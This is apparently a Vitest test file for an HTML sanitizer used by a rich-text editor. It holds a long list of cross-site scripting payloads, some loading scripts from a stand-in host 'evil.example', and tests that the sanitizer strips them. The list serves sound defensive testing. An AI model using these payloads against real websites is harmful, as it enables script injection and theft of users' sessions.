import { expect, test } from 'vitest'
import { isImageAddress, isLinkAddress } from './addresses.ts'
import { arabicArticle, englishArticle, exampleImage } from './example.ts'
import { sanitizeHtml } from './sanitizeHtml.ts'

/** Ways to run a script that have worked somewhere, by OWASP, Cure53 and PortSwigger. */
const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/xss src="//evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" alt="a">',
  '<img/src/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="x 1x" src="https://a.example/b.png" onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://a.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://a.example" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="https://a.example" style="position:fixed;inset:0">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1));text-align:center">x</p>',
  '<p style="text-align:center;position:fixed;inset:0">x</p>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<style>@import "//evil.example/x.css"; p{background:url(javascript:alert(1))}</style>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<body onload=alert(1)>',
  '<form action="javascript:alert(1)"><input type=submit formaction="javascript:alert(1)"></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video><audio src onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p is="x-y" onclick=alert(1)>x</p>',
  '<p id="location" name="cookie">x</p><img name="getElementById" src="https://a.example/b.png">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p data-x="1" aria-label="x" contenteditable="true" class="ProseMirror">x</p>',
  '{{constructor.constructor("alert(1)")()}}<p v-on:click="alert(1)" ng-click="alert(1)">x</p>',
]

const allowed = new Set(
  'P DIV BR HR H2 H3 BLOCKQUOTE PRE UL OL LI STRONG EM U S CODE A IMG TABLE THEAD TBODY TFOOT TR TH TD'.split(
    ' ',
  ),
)
const names = new Set('dir href rel title src alt width height start colspan rowspan align class'.split(' '))

/** What is in markup that should not be. */
function dangers(html: string) {
  const { body, head } = new DOMParser().parseFromString(html, 'text/html')
  const found: string[] = head.childElementCount > 0 ? [head.innerHTML] : []
  for (const element of body.querySelectorAll('*')) {
    if (!allowed.has(element.nodeName)) found.push(element.nodeName)
    for (const { name, value } of element.attributes) {
      if (!names.has(name)) found.push(`${element.nodeName} ${name}`)
      if (name === 'href' && !isLinkAddress(value)) found.push(value)
      if (name === 'src' && !isImageAddress(value)) found.push(value)
      if (name === 'align' && !/^(?:start|center|end|left|right|justify)$/.test(value)) found.push(value)
      if (name === 'class' && !/^language-\w+$/.test(value)) found.push(value)
    }
  }
  return found
}

test.each(attacks)('runs nothing of %s', (attack) => {
  for (const html of [attack, `<p>before ${attack} after</p>`, `<table><tr><td>${attack}`]) {
    const clean = sanitizeHtml(html)
    expect(dangers(clean)).toEqual([])
    // What a browser reads from it is clean for good.
    expect(sanitizeHtml(clean)).toBe(clean)
  }
})

test('the words that stand around an attack stay', () => {
  expect(sanitizeHtml('<p>before <script>alert(1)</script><b onclick=x>after</b></p>')).toBe(
    '<p>before <strong>after</strong></p>',
  )
})

test.each([englishArticle, arabicArticle])('leaves what the editor makes as it is', (article) => {
  const clean = sanitizeHtml(article)
  expect(dangers(clean)).toEqual([])
  expect(clean.replaceAll(' rel="noopener noreferrer"', '')).toBe(article.replace('; "', '"'))
})

test('gives every link a rel, and takes it out of its window', () => {
  expect(sanitizeHtml('<p><a href="https://a.example" target="_blank" rel="opener">x</a></p>')).toBe(
    '<p><a href="https://a.example" rel="noopener noreferrer">x</a></p>',
  )
  expect(sanitizeHtml('<p><a href="javascript:x">x</a><a name="y">y</a></p>')).toBe('<p>xy</p>')
})

test('keeps addresses of people and of this site', () => {
  for (const address of ['mailto:a@b.example', 'tel:+33612345678', '/orders/1', '#days', '?page=2'])
    expect(sanitizeHtml(`<a href="${address}">x</a>`)).toContain(`href="${address}"`)
})

test('keeps images and says so of one without a description', () => {
  expect(sanitizeHtml(`<img src="${exampleImage}" alt="Two colours" width="20" class="x">`)).toBe(
    `<img src="${exampleImage}" alt="Two colours" width="20">`,
  )
  expect(sanitizeHtml('<img src="https://a.example/b.png">')).toBe(
    '<img src="https://a.example/b.png" alt="">',
  )
  expect(sanitizeHtml('<img alt="nowhere">')).toBe('')
})

test('of styles it keeps the alignment alone', () => {
  expect(sanitizeHtml('<p style="color:red; text-align: CENTER; margin:0">x</p>')).toBe(
    '<p align="center">x</p>',
  )
  expect(sanitizeHtml('<p style="color: red">x</p>')).toBe('<p>x</p>')
})

test('calls things by the names that the editor uses', () => {
  expect(sanitizeHtml('<div><h1>A</h1><div>b</div></div><h5>c</h5><i>d</i><strike>e</strike>')).toBe(
    '<div><h2>A</h2><p>b</p></div><h3>c</h3><em>d</em><s>e</s>',
  )
})

test('bears what is no markup, and what is broken', () => {
  expect(sanitizeHtml('')).toBe('')
  expect(sanitizeHtml('1 < 2 && 3 > 2')).toBe('1 &lt; 2 &amp;&amp; 3 &gt; 2')
  expect(sanitizeHtml('<p>open <strong>and never')).toBe('<p>open <strong>and never</strong></p>')
})

test('bears what is nested far too deep', () => {
  expect(dangers(sanitizeHtml(`${'<blockquote><x-y>'.repeat(200)}x<img src=x onerror=alert(1)>`))).toEqual([])
})
